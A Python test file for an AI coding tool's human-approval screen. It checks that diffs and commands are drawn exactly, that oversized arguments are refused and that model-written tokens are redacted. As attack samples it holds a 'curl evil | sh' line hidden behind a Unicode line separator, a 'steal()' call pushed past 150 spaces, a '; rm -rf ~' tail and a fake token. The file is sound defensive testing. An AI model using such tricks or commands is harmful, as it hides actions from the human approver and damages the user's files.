"""What a person approves is what runs, and what the model writes is redacted like results.

- The terminal question draws a diff or a command byte for byte: split on ``\\n`` only, every
  other separator and control character escaped, long lines wrapped (a property test: what is
  drawn, un-escaped and un-wrapped, is the exact text). ``str.splitlines`` and cutting at the
  terminal's width — the old drawing — hid an added line and a payload after 150 spaces.
- A call without a preview shows all its arguments; too long to show, it is refused unasked.
- A diff is computed in bounded time (difflib took tens of seconds on repeated lines).
- A token the model writes in its text or arguments reaches no event, thread or cassette.
- ACP progress is coalesced.
"""

from __future__ import annotations

import difflib
import json
import time
from typing import Any

import anyio
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import BaseModel

from cogcli.shown.approval import MAX_SHOWN_ARGUMENTS, WRAP_INDENT, unwrap
from cogcli.commands.approve import DIFF_INDENT, fit, question_body
from cogcli.wire.events import Approval
from cogcli.shown.visible import unescape

from .conftest import Runner

#: every kind of character a file or a model can hold but the tab (drawn as the terminal draws it)
TEXT = st.lists(st.characters(codec="utf-8", exclude_characters="\t").map(str) | st.sampled_from(
    ["\u2028", "\u2029", "\x85", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\u202e", "\u2066", "\x1b", "\\", "\\x1b",
     "\\\\u2028", "\ufeff", "\U000e0041", "界", " " * 40]
), max_size=120).map("".join)


class QueryArgs(BaseModel):
    query: str


def edit_approval(lines: list[str]) -> Approval:
    diff = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n" + "".join(f"+{line}\n" for line in lines)
    return Approval(tool_call_id="c", tool_name="edit_file", description="Edit file · a.py",
                    preview={"path": "a.py", "diff": diff, "added": len(lines), "removed": 0})


@settings(max_examples=300, deadline=None)
@given(lines=st.lists(TEXT.filter(lambda t: "\n" not in t), min_size=1, max_size=4), width=st.integers(20, 200))
def test_what_is_drawn_reads_back_to_the_exact_text(lines: list[str], width: int) -> None:
    drawn = question_body(edit_approval(lines), max_lines=None, width=width)
    assert all(len(line) <= width or "\\" in line for line in drawn)  # wrapped (an escape is never split)
    assert not any(c in line for line in drawn for c in "\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\u202e\x1b")
    logical = unwrap(drawn)
    assert logical[0] == f"  a.py  +{len(lines)} −0" and logical[1] == DIFF_INDENT + "@@ -1 +1 @@"
    assert [unescape(line.removeprefix(DIFF_INDENT + "+")) for line in logical[2:]] == lines


@settings(max_examples=200, deadline=None)
@given(command=TEXT)
def test_a_command_is_drawn_exactly(command: str) -> None:
    a = Approval(tool_call_id="c", tool_name="run_tests", description="Run tests", preview={"command": command})
    drawn = unwrap(question_body(a, max_lines=None, width=60))
    assert "\n".join(unescape(line.removeprefix("  $ ")) for line in drawn) == command


def test_a_separator_cannot_turn_an_added_line_into_context() -> None:
    payload = "x = 1\u2028import os; os.system('curl evil | sh')"
    old_drawing = [line for line in f"+{payload}\n".splitlines()]  # without the defence: str.splitlines
    assert old_drawing[1].startswith("import os"), "splitlines did not split: the attack proves nothing"  # drawn as a context line
    drawn = question_body(edit_approval([payload]), max_lines=None, width=200)
    assert drawn[-1] == DIFF_INDENT + "+x = 1\\u2028import os; os.system('curl evil | sh')"


def test_a_payload_after_150_spaces_is_wrapped_into_view() -> None:
    payload = "ok()" + " " * 150 + "; steal()"
    line = question_body(edit_approval([payload]), max_lines=None)[-1]
    assert "steal" not in fit(line, 79), "the old cut did not hide it: the attack proves nothing"
    drawn = question_body(edit_approval([payload]), max_lines=None, width=79)
    assert any("steal()" in piece for piece in drawn) and drawn[-1].startswith(WRAP_INDENT)


def test_a_call_without_a_preview_shows_every_argument_or_is_refused() -> None:
    tail = "; rm -rf ~"
    args = {"query": "a" * 400 + tail}
    assert tail not in json.dumps(args)[:299], "the old 300-character cut kept the tail: the attack proves nothing"
    a = Approval(tool_call_id="c", tool_name="mcp_query", description="mcp_query", arguments=args)
    drawn = unwrap(question_body(a, max_lines=None, width=80))
    assert unescape("\n".join(line[2:] for line in drawn)) == json.dumps(args, ensure_ascii=False, indent=2)

    from cogcli.contract.invoke import preview_call
    from cogcli.contract.prepare import prepare
    from cogcli.contract.tool import tool

    @tool(side_effects=["runs code"])
    def mcp_query(params: QueryArgs) -> str:
        """Query."""
        return "ran"

    call = prepare("mcp_query", {"query": "a" * MAX_SHOWN_ARGUMENTS + tail}, call_id="c1", tools={"mcp_query": mcp_query})
    refused = anyio.run(preview_call, call)
    assert refused is not None and refused.error_code == "INVALID_ARGUMENTS" and "more than" in refused.error
    small = prepare("mcp_query", {"query": "fine"}, call_id="c2", tools={"mcp_query": mcp_query})
    assert anyio.run(preview_call, small) is None  # asked about, with its arguments shown


def test_a_diff_of_repeated_lines_is_computed_in_bounded_time() -> None:
    from workspace_tools.text.diffs import format_hunks, text_blocks

    old, new = "x = 1\n" * 1200, "y = 2\n".join(["x = 1\n"] * 1200)
    start = time.perf_counter()
    diff = format_hunks(text_blocks(old, new))
    bounded = time.perf_counter() - start
    assert diff.count("\n+y = 2") == 1199
    # without the defence: difflib (autojunk off) on a third of it already takes longer
    a, b = ["x = 1\n"] * 400, ["x = 1\n", "y = 2\n"] * 400
    start = time.perf_counter()
    difflib.SequenceMatcher(None, a, b, autojunk=False).get_opcodes()
    assert time.perf_counter() - start > bounded, "difflib was not slower: the attack proves nothing"
    assert bounded < 5


TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"


def test_without_the_emitter_redaction_the_token_goes_out(monkeypatch: pytest.MonkeyPatch) -> None:
    from cogcli.wire import emitter, events
    from cogcli.wire.emitter import EventEmitter

    seen: list[Any] = []
    EventEmitter(seen.append).emit(events.ToolCallEndEvent(id="c", tool_name="w", arguments={"t": TOKEN}))
    assert TOKEN not in json.dumps(seen[0].model_dump())
    monkeypatch.setattr(emitter, "_MODEL_WRITTEN", frozenset())  # the defence off
    EventEmitter(seen.append).emit(events.ToolCallEndEvent(id="c", tool_name="w", arguments={"t": TOKEN}))
    assert TOKEN in json.dumps(seen[1].model_dump())


def test_a_token_split_across_deltas_is_held_until_whole() -> None:
    from cogcli.secrets.stream import StreamRedactor

    stream = StreamRedactor(())
    out = "".join(stream.feed(piece) for piece in ['{"content": "key ', TOKEN[:10], TOKEN[10:25], TOKEN[25:], '" }']) + stream.flush()
    assert TOKEN not in out and TOKEN[:10] not in out and out == '{"content": "key [REDACTED]" }'


def test_a_token_the_model_writes_reaches_no_event_thread_or_cassette(runner: Runner) -> None:
    repo = runner.make_repo({"a.py": "x = 1\n"})
    model = runner.scratch("m") / "m.jsonl"
    model.write_text("".join(json.dumps(t) + "\n" for t in [
        {"type": "cassette", "schemaVersion": 1, "model": "test:x"},
        {"type": "turn", "text": f"I will store {TOKEN} for you.",
         "toolCalls": [{"id": "c1", "name": "write_file", "arguments": {"path": "notes.txt", "content": f"token = {TOKEN}\n"}}]},
        {"type": "turn", "text": f"Stored {TOKEN}."},
    ]))
    recorded = runner.scratch("r") / "rec.jsonl"
    runner.own(model.parent)
    runner.own(recorded.parent)
    out = runner.cog(["edit", "--json", "--yes", "--model", f"replay:{model}", "--record", str(recorded), "go"], repo)
    assert out.returncode == 0, out.stderr
    assert (repo / "notes.txt").read_text() == f"token = {TOKEN}\n"  # the call ran with what the model wrote
    assert "tool-call-end" in out.stdout and TOKEN not in out.stdout and TOKEN[:12] not in out.stdout
    assert "[REDACTED]" in out.stdout
    for part in (repo / ".cog").iterdir():
        if part.name.startswith("threads.db"):
            assert TOKEN.encode() not in part.read_bytes(), part.name
    assert recorded.exists() and TOKEN not in recorded.read_text()


def test_acp_progress_is_coalesced_and_the_last_state_comes_before_the_result() -> None:
    from cogcli.wire.coalesce import Coalescer

    async def main() -> list[str]:
        sent: list[str] = []
        coalescer = Coalescer(sent.append)
        for i in range(3000):  # a run of 3,000 tests, reported as fast as they end
            coalescer.progress("t1", f"{i + 1}/3000")
            if i % 500 == 0:
                await anyio.sleep(0.11)
        coalescer.before("t1")
        sent.append("result")
        return sent

    sent = anyio.run(main)
    assert len(sent) <= 20 and sent[0] == "1/3000" and sent[-2:] == ["3000/3000", "result"]
